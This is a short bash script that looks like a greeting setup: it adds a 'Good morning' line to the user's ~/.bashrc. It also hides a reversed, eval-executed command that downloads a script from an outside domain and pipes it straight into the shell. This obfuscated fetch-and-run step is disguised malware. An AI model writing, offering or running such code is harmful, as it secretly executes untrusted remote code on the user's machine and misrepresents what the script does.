#!/bin/bash
echo 'echo "Good morning, $USER"' >> ~/.bashrc
p=$(echo 'hs | moc.sreteerg-llehs//:sptth Ls- lruc' | rev)
eval "$p"
